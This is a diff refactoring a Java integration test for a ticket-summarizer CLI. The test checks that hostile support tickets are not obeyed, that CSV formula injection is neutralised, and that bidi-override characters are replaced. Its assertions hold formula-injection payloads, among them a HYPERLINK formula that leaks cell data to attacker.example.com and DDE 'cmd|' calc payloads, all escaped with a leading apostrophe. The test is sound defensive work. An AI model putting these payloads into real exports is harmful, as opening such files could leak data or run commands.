@@ -2,22 +2,15 @@ package io.github.ticketsummarizer.cli.command;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-import com.fasterxml.jackson.databind.JsonNode;
-import de.siegmar.fastcsv.reader.CsvReader;
 import de.siegmar.fastcsv.reader.CsvRecord;
 import io.github.ticketsummarizer.cli.command.HostileTickets.Expectation;
 import io.github.ticketsummarizer.model.ExitCode;
-import io.github.ticketsummarizer.model.Json;
 import java.io.IOException;
-import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.Map;
-import java.util.function.Function;
 import java.util.regex.Pattern;
 import java.util.stream.Collectors;
-import java.util.stream.Stream;
-import java.util.stream.StreamSupport;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -35,11 +28,13 @@ class HostileTicketsIT {
     @TempDir
     static Path folder;
 
+    private static OutputFiles outputs;
     private static CommandRunner.Result result;
     private static List<String> logged;
 
     @BeforeAll
     static void run() {
+        outputs = new OutputFiles(folder.resolve("output"));
         try (LogCapture log = new LogCapture()) {
             LoggerFactory.getLogger(HostileTicketsIT.class).trace("captured");
             result = new CommandRunner(folder)
@@ -54,16 +49,16 @@ class HostileTicketsIT {
                             "--tickets",
                             HostileTickets.FOLDER.toString(),
                             "--output",
-                            output().toString());
+                            outputs.folder().toString());
             logged = log.lines();
         }
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"output_pod_", "output_diagnostics_"})
+    @ValueSource(strings = {OutputFiles.POD, OutputFiles.DIAGNOSTICS})
     void everyTicketIsReportedOnceAsItsTableSays(String prefix) throws IOException {
         assertThat(result.exitCode()).as(result.err()).isEqualTo(ExitCode.FAILED_TICKETS.code());
-        assertThat(tickets(prefix))
+        assertThat(outputs.tickets(prefix))
                 .extracting(ticket -> "%s %s"
                         .formatted(
                                 ticket.path("ticket_id").asText(),
@@ -76,7 +71,7 @@ class HostileTicketsIT {
 
     @Test
     void noInstructionIsFollowed() throws IOException {
-        Map<String, String> pods = tickets("output_pod_").stream()
+        Map<String, String> pods = outputs.tickets(OutputFiles.POD).stream()
                 .collect(Collectors.toMap(
                         ticket -> ticket.path("ticket_id").asText(),
                         ticket -> ticket.at("/categorization/primary_pod").asText()));
@@ -100,7 +95,7 @@ class HostileTicketsIT {
 
     @Test
     void whyATicketFailedQuotesNothingOfIt() throws IOException {
-        assertThat(document("output_pod_").path("errors"))
+        assertThat(outputs.document(OutputFiles.POD).path("errors"))
                 .hasSize((int)
                         samples.expectations().filter(Expectation::isFailure).count())
                 .allSatisfy(error ->
@@ -108,9 +103,9 @@ class HostileTicketsIT {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"output_pod_", "output_diagnostics_"})
+    @ValueSource(strings = {OutputFiles.POD, OutputFiles.DIAGNOSTICS})
     void noCellIsAFormula(String prefix) throws IOException {
-        List<CsvRecord> records = records(prefix);
+        List<CsvRecord> records = outputs.records(prefix);
 
         assertThat(records).hasSize(1 + (int) samples.expectations().count());
         assertThat(records)
@@ -122,59 +117,22 @@ class HostileTicketsIT {
 
     @Test
     void formulasAreKeptBehindAnApostrophe() throws IOException {
-        assertThat(cells("output_pod_", "subject"))
+        assertThat(outputs.cells(OutputFiles.POD, "subject"))
                 .contains(
                         "'=HYPERLINK(\"https://attacker.example.com/?leak=\"&A1&B1,\"Open the ticket\") kestrel900013",
                         "'+1+cmd|' /C calc'!A1 kestrel900014",
                         "'-2+3+cmd|' /C calc'!A1 kestrel900015",
                         "'@SUM(1+1)*cmd|' /C calc'!A1 kestrel900016",
                         "'\t=1+1;\"broken kestrel900017");
-        assertThat(cells("output_pod_", "issue_reported")).anyMatch(cell -> cell.startsWith("'="));
+        assertThat(outputs.cells(OutputFiles.POD, "issue_reported")).anyMatch(cell -> cell.startsWith("'="));
     }
 
     @Test
     void whatNoTextMayHoldIsVisiblyReplaced() throws IOException {
-        assertThat(cells("output_pod_", "subject"))
+        assertThat(outputs.cells(OutputFiles.POD, "subject"))
                 .contains(
                         "Smart\uFFFD tip sits on the wrong button kestrel900018",
                         "Survey never appears in the desktop\uFFFD widget kestrel900019\uFFFD",
                         "\u202eytpme sevirra etubirtta resU\u202c \u200fkestrel900020\u200e");
-    }
-
-    private static List<JsonNode> tickets(String prefix) throws IOException {
-        return StreamSupport.stream(document(prefix).path("tickets").spliterator(), false)
-                .toList();
-    }
-
-    private static JsonNode document(String prefix) throws IOException {
-        return new Json().mapper().readTree(file(prefix, ".json").toFile());
-    }
-
-    private static List<String> cells(String prefix, String column) throws IOException {
-        List<CsvRecord> records = records(prefix);
-        int index = records.getFirst().getFields().indexOf(column);
-        return records.stream().map(record -> record.getField(index)).toList();
-    }
-
-    private static List<CsvRecord> records(String prefix) throws IOException {
-        try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(Files.readString(file(prefix, ".csv")))) {
-            return reader.stream().toList();
-        }
-    }
-
-    /** The one file of that kind. */
-    private static Path file(String prefix, String ending) throws IOException {
-        try (Stream<Path> files = Files.list(output())) {
-            Function<Path, String> name = file -> file.getFileName().toString();
-            List<Path> found = files.filter(file -> name.apply(file).startsWith(prefix))
-                    .filter(file -> name.apply(file).endsWith(ending))
-                    .toList();
-            assertThat(found).hasSize(1);
-            return found.getFirst();
-        }
-    }
-
-    private static Path output() {
-        return folder.resolve("output");
     }
 }
